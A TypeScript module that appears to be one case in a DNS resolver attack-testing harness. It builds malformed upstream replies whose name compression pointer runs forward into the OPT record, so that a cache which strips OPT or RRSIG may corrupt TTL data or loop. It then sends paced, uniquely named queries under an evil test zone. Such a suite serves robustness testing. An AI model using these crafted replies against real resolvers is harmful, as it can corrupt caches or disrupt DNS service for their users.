import type { Attack } from "../frame/attack.ts";
import { EVIL_ZONES } from "../frame/places.ts";
import { join, pointer, QNAME, query, record, reply, TYPE, wireName } from "../frame/wire.ts";

const RATE = 50;
/** With a label of 31 octets and the zone after them, the first record's data begins at 199. */
const LABELS = ["a".repeat(63), "b".repeat(63)];

/**
 * A name that points back into earlier data and from there passes, label by label, through its own
 * record into OPT; a cache that removes OPT stores TTLs there.
 */
export function loopReply(message: Uint8Array): Uint8Array {
  const label = record(QNAME, TYPE.UNKNOWN, 60, join(56, new Uint8Array(32).fill(0x61)));
  // A record to remove, so that the message is rewritten.
  const signature = record(QNAME, TYPE.RRSIG, 60, new Uint8Array(0));
  const runsOn = record(pointer(199), TYPE.UNKNOWN, 60, new Uint8Array(0));
  return reply(message, { answers: [label, signature, runsOn], opt: true });
}

export const replyLoop: Attack = {
  name: "reply-loop",
  summary: "An upstream's replies have a name that runs forward into OPT (267 octets each).",
  upstream: loopReply,
  async attack({ udp, paced }) {
    const socket = udp();
    const asked = await paced(RATE, (n) => {
      // A new name each time, so that no reply is reused.
      const name = [...LABELS, String(n).padStart(31, "c"), EVIL_ZONES.udp].join(".");
      socket.send(query(wireName(name), n % 2 === 0 ? TYPE.A : TYPE.UNKNOWN));
    }, () => socket.drain());
    return { asked };
  },
};
